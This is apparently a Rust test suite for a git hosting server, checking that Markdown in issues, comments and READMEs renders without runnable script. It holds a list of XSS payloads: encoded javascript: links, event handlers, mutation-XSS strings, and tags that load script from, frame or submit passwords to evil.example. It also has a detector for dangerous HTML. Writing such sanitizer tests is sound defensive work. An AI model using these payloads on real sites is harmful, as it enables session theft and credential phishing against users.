//! Markdown that tries to run script: in an issue, a comment, and a
//! README. Whatever the text, the rendered HTML has no script, no event
//! handler, no `javascript:`/`data:`/`vbscript:` link or source, no frame,
//! form, style or base element, and every page keeps its CSP.

mod common;

use scraper::{Html, Selector};
use serde_json::json;

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
    "<p title=\"x\" onmouseover=\"alert(1)\">hover</p>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[x](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<<script>script>alert(1)<</script>/script>",
    "\u{0}<script>alert(1)</script>",
];

/// Every way an element of `html` could run script, as a list of findings.
fn dangers(html: &str) -> Vec<String> {
    let doc = Html::parse_fragment(html);
    let mut found = Vec::new();
    for el in doc.select(&Selector::parse("*").unwrap()) {
        let name = el.value().name();
        if matches!(
            name,
            "script"
                | "iframe"
                | "frame"
                | "object"
                | "embed"
                | "form"
                | "style"
                | "base"
                | "meta"
                | "link"
                | "svg"
                | "math"
        ) {
            found.push(format!("<{name}>"));
        }
        for (attr, value) in el.value().attrs() {
            let v: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect();
            let v = v.to_ascii_lowercase();
            if attr.starts_with("on") || attr == "style" || attr == "formaction" || attr == "srcdoc" {
                found.push(format!("{name} {attr}={value:?}"));
            }
            if matches!(
                attr,
                "href" | "src" | "action" | "data" | "xlink:href" | "background" | "poster"
            ) && (v.starts_with("javascript:") || v.starts_with("data:") || v.starts_with("vbscript:"))
            {
                found.push(format!("{name} {attr}={value:?}"));
            }
        }
    }
    found
}

/// The `.markdown` parts of a page.
fn rendered(page: &str) -> Vec<String> {
    let doc = Html::parse_document(page);
    doc.select(&Selector::parse(".markdown").unwrap())
        .map(|e| e.inner_html())
        .collect()
}

#[test]
fn the_check_itself_sees_each_danger() {
    for html in [
        "<script>x</script>",
        "<img src=x onerror=y>",
        "<a href=\" JaVa\tScript:x\">a</a>",
        "<a href=\"data:text/html,x\">a</a>",
        "<p style=\"x\">p</p>",
        "<iframe></iframe>",
    ] {
        assert!(!dangers(html).is_empty(), "{html}");
    }
    assert!(dangers("<a href=\"https://ok.example\" title=\"t\">a</a><img src=\"/x.png\">").is_empty());
}

#[test]
fn markdown_that_tries_to_run_script_renders_as_harmless_html() {
    let r = common::ci::repo();
    let all = VECTORS.join("\n\n");
    // (A NUL would make the file binary to git, and so not rendered at all.)
    let readme: Vec<&str> = VECTORS.iter().copied().filter(|v| !v.contains('\0')).collect();
    std::fs::write(r.work.join("README.md"), readme.join("\n\n")).unwrap();
    r.commit_and_push("A hostile README", "main");
    let (status, issue) = r.server.api(
        "POST",
        "/api/v1/repos/alice/demo/issues",
        Some(&r.token),
        Some(json!({"title": "<script>alert(1)</script>", "body": all})),
    );
    assert_eq!(status, 201, "{issue}");
    // Each vector also alone, as a comment, so one cannot hide another.
    for v in VECTORS {
        let (status, _) = r.server.api(
            "POST",
            "/api/v1/repos/alice/demo/issues/1/comments",
            Some(&r.token),
            Some(json!({ "body": v })),
        );
        assert_eq!(status, 201, "{v:?}");
    }
    for path in [
        "/alice/demo",
        "/alice/demo/blob/main/README.md",
        "/alice/demo/issues/1",
        "/alice/demo/issues",
    ] {
        let resp = r.server.get(path);
        assert_eq!(resp.status(), 200, "{path}");
        let csp = resp.headers()["content-security-policy"].to_str().unwrap().to_string();
        assert!(csp.contains("script-src 'self'"), "{path}: {csp}");
        let page = resp.text().unwrap();
        let parts = rendered(&page);
        assert!(
            path == "/alice/demo/issues" || !parts.is_empty(),
            "{path} shows the Markdown"
        );
        for html in parts {
            let found = dangers(&html);
            assert!(found.is_empty(), "{path}: {found:?}");
        }
        // The title is text wherever it appears.
        assert!(!page.contains("<script>alert(1)</script>"), "{path}");
    }
    // The text itself comes back unchanged through the API (only its HTML is cleaned).
    let (_, issue) = r
        .server
        .api("GET", "/api/v1/repos/alice/demo/issues/1", Some(&r.token), None);
    assert_eq!(issue["body"], all);
}
